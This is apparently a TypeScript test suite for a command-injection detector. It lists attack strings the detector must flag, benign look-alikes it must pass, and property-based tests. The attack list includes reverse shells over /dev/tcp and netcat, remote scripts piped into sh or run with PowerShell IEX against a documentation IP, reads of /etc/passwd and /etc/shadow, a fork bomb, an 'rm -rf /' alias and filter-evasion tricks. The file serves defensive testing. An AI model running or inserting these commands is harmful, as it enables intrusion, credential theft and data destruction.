import fc from 'fast-check';
import { expect, test } from 'vitest';
import { finds, testCases, testHostileTexts } from './judge-cases.ts';

testCases('cmdi', {
  attacks: [
    // Where a command can stand.
    ['behind a semicolon', 'report.pdf; id'],
    ['behind a semicolon, nothing before', ';id'],
    ['behind a pipe', '198.51.100.7|whoami'],
    ['behind &&, out of double quotes', 'x" && whoami && "'],
    ['behind ||, out of single quotes', "x' || sleep 5 || '"],
    ['behind & as cmd.exe has it', '7 & ping -n 9 127.0.0.1 &'],
    ['on a line of its own', 'x.jpg\ncat /etc/passwd'],
    ['on a line of its own, percent-encoded', '%0aid%0a'],
    ['on a line of its own, written as an escape', '"\\n/bin/ls -al\\n"'],
    ['out of parentheses', 'a);id;('],
    ['in a subshell', ';(id)'],
    ['in $(…) within a value', 'photo$(sleep 5).png'],
    ['in backticks that hang on a value', 'photo`sleep 5`'],
    ['in backticks alone', '`uname -a`'],
    ['in a process substitution', '<(cat file)'],
    ['reading a file in its place', '$(<notes.txt)'],
    ['as a whole command line', 'cat /etc/shadow'],
    ['as a whole command line of a form', 'ls+-la+/var'],
    ['behind prose', 'hello world; cat /etc/passwd'],
    ['behind another command', 'whoami && id'],
    ['behind a prefix', '; sudo -u root id'],
    ['behind an assignment', '; X=1 id'],
    ['behind a condition', ';if id; then sleep 5; fi'],
    ['as the string that a function runs', "system('id');"],
    // What runs.
    ['a download piped into a shell', 'wget -qO- http://198.51.100.7/x | sh'],
    ['a shell on a socket', 'bash -i >& /dev/tcp/198.51.100.7/80 0>&1'],
    ['a shell on netcat', 'nc -lvp 4444 -e /bin/sh'],
    ["an interpreter's program", "| perl -e 'print 1'"],
    ['a look-up that tells', '& nslookup x.example.com'],
    ['a wait', '|| sleep 10'],
    ['by its path', '|/usr/bin/id|'],
    ['from the working folder', '; ./x.sh'],
    ['a function in the environment', '() { :;}; /bin/bash -c "sleep 3"'],
    ['a function that starts itself twice', 'b(){ b|b& };b'],
    ['a server-side include', '<!--#exec cmd="id" -->'],
    ['an alias', "alias ls='rm -rf /'"],
    // Hidden from those who look for words.
    ['quotes in the name', ";c'a't /etc/passwd"],
    ['escapes in the name', ';wh\\oami'],
    ['empty expansions in the name', ';who$@ami'],
    ['empty substitutions in the name', 'pi$()ng 127.0.0.1'],
    ['ANSI quotes', ";$'\\x69\\x64'"],
    ['a variable for a blank', ';cat${IFS}/etc/passwd'],
    ['braces for blanks', '{cat,/etc/passwd}'],
    ['a redirection for a blank', ';cat</etc/passwd'],
    ['globs for the path', '/???/c?t /etc/p*d'],
    ['a set in a glob', '/etc/pass[w]d'],
    ['a command in variables', ';a=who;b=ami;$a$b'],
    ['a variable that names a shell', '$SHELL -c "id"'],
    // Windows.
    ['a listing', '| dir C:\\Users'],
    ['a file', '& type %SYSTEMROOT%\\win.ini'],
    ['an account', '& net user eve secret /add'],
    ['carets in the name', '& wh^oami'],
    ['a character cut out of a variable', 'ping%PROGRAMFILES:~10,-5%198.51.100.7'],
    ['the shell by its variable', ';%COMSPEC% /c whoami'],
    ['a loop', 'for /f %i in (list.txt) do echo %i'],
    ['a condition on a file', 'IF NOT EXIST a.txt echo b'],
    ['a comparison', 'if "%1"=="" goto end'],
    ['an encoded script', 'powershell -enc SQBFAFgA'],
    ['a downloaded script', "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')"],
    ['a cmdlet', '; Get-ChildItem C:\\'],
    ['a method of .NET', '[System.IO.File]::ReadAllText("x")'],
  ],
  harmless: [
    ['an ampersand between words', 'Tom & find out'],
    ['a name with an ampersand', 'AT&T'],
    ['two words that are commands', 'salt & date'],
    ['semicolons in prose', 'cats; dogs; sort of'],
    ['a commit subject', 'fix: kill process; echo more'],
    ['code in Markdown', 'use `npm install` or `date`'],
    ['a command alone in Markdown', '`sort`'],
    ['a table in Markdown', '| Name | Date |\n|---|---|\n| id | more |'],
    ['a type', "type Kind = 'date' | 'time' | 'set'"],
    ['a condition', 'if (a || date) return;'],
    ['a template literal', '`Hello $' + '{name}`'],
    ['jQuery', "$(document).ready(() => $(this).find('.x'))"],
    ['a scripted build', 'npm ci && npm run build'],
    ['a request to try', 'curl http://localhost:3000/orders'],
    ['a fenced example', 'Try it:\n```sh\ncd app\nls -la | grep x\n```\nThen go on.'],
    ['a browser', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)'],
    ['a cookie', 'sid=1; path=/; HttpOnly'],
    ['a media type', 'text/plain; charset=utf-8'],
    ['a form', 'sort=date&type=file&id=5'],
    ['a parameter without a value', '?sort&date'],
    ['choices', 'true|false'],
    ['languages', 'Python|Java|Perl'],
    ['a regular expression', '^(id|date|time)$'],
    ['styles', 'a{top:0;left:0;cursor:move}'],
    ['SQL', 'SELECT `id`, `date` FROM `users`;'],
    ['IF EXISTS of SQL', 'DROP TABLE IF EXISTS orders'],
    ['a route', 'GET /users/:id?'],
    ['a path of Windows', 'C:\\Program Files\\nodejs\\node.exe'],
    ['a word', 'whoami'],
    ['a sentence', 'Find me a book, then sort it'],
    ['an old cookie', '$Version=1; a=b; $Path=/'],
    ['prices', 'red;$5 each'],
    ['a GraphQL selection', '{id,name}'],
    ['a function of a shell', 'greet(){ echo hello }'],
  ],
});

const commands = [
  'cat /etc/passwd',
  '/bin/id',
  'whoami',
  'ls -la /',
  'sleep 5',
  'curl http://198.51.100.7/x | sh',
];
const blanks = fc.stringMatching(/^[ \t]{0,4}$/);

test('a value before a separator does not hide the command behind it', () => {
  const value = fc.stringMatching(/^[\w./@-]{0,40}$/);
  const separator = fc.constantFrom(';', '|', '&&', '||', '\n');
  fc.assert(
    fc.property(value, separator, blanks, fc.constantFrom(...commands), (before, between, blank, command) => {
      expect(finds('cmdi', `${before}${between}${blank}${command}`)).toBe(true);
    }),
  );
});

test('prose around a command that reads a secret file does not hide it', () => {
  const prose = fc
    .array(fc.constantFrom('the', 'order', 'of', 'Anna', 'arrived', '7'))
    .map((words) => words.join(' '));
  fc.assert(
    fc.property(prose, prose, (before, after) => {
      expect(finds('cmdi', `${before}; cat /etc/passwd; ${after}`)).toBe(true);
    }),
  );
});

test('quotes and escapes anywhere in the name do not hide it', () => {
  const noise = fc.constantFrom("''", '""', '\\', '$@', '``');
  fc.assert(
    fc.property(fc.constantFrom('whoami', 'uname', 'ifconfig'), fc.nat(), noise, (name, place, hidden) => {
      const at = 1 + (place % (name.length - 2));
      expect(finds('cmdi', `;${name.slice(0, at)}${hidden}${name.slice(at)}`)).toBe(true);
    }),
  );
});

testHostileTexts('cmdi', [
  ...[
    ';',
    '|',
    '&',
    '\n',
    '`',
    '$(',
    '${IFS}',
    '$IFS',
    '<(',
    '(',
    ')',
    '{',
    '}',
    "'",
    '"',
    '\\',
    '%',
    '^',
    '/',
    '*',
    '?',
    '[',
  ],
  ...[
    ']::',
    'cat',
    ' ',
    ',',
    '=',
    '/etc/',
    'passwd',
    'if ',
    'for %i in (',
    '<!--#',
    'system(',
    '() {',
    '$@',
    ':~0,1%',
  ],
]);
